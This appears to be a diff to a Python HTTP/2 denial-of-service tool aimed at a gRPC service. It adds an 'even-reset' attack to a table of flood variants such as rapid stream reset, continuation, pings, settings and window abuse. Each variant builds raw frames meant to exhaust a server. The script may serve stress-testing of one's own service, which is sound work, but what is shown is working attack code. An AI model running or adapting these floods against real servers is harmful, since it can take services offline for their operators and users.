@@ -67,6 +67,11 @@ def reset(i):
     return b"".join(frame(HEADERS, END_HEADERS, s, CHECKPOINT) + frame(RESET, 0, s, b"\0\0\0\x08") for s in odd(i, 100)), i + 200
 
 
+def even_reset(i):
+    """Begun by a number that only a server may use: behind it gRPC takes lower ones."""
+    return (frame(HEADERS, END_HEADERS, 0x7ffffffe, CHECKPOINT) if i == 1 else b"") + reset(i)[0], i + 200
+
+
 def question_reset(i):
     trace = headers(b"/fundtrail.v1.Ledger/Trace")
     body = message(b"\x08\x01\x1a\x05donor")
@@ -164,7 +169,7 @@ def idle(i):
 
 # name: what it says, connections of an address, whether it takes answers
 ATTACKS = {
-    "reset": (reset, 4, True), "question-reset": (question_reset, 4, True), "reset-unread": (reset, 8, False),
+    "reset": (reset, 4, True), "even-reset": (even_reset, 4, True), "question-reset": (question_reset, 4, True), "reset-unread": (reset, 8, False),
     "continuation": (continuation, 4, True), "unknown-methods": (unknown_methods, 8, True), "health-checks": (health_checks, 8, True),
     "checkpoints": (checkpoints, 8, True), "pings": (pings, 8, True), "pings-unread": (pings, 8, False), "settings": (settings, 8, False),
     "priorities": (priorities, 8, True), "windows": (windows, 8, True), "unknown-frames": (unknown_frames, 8, True),
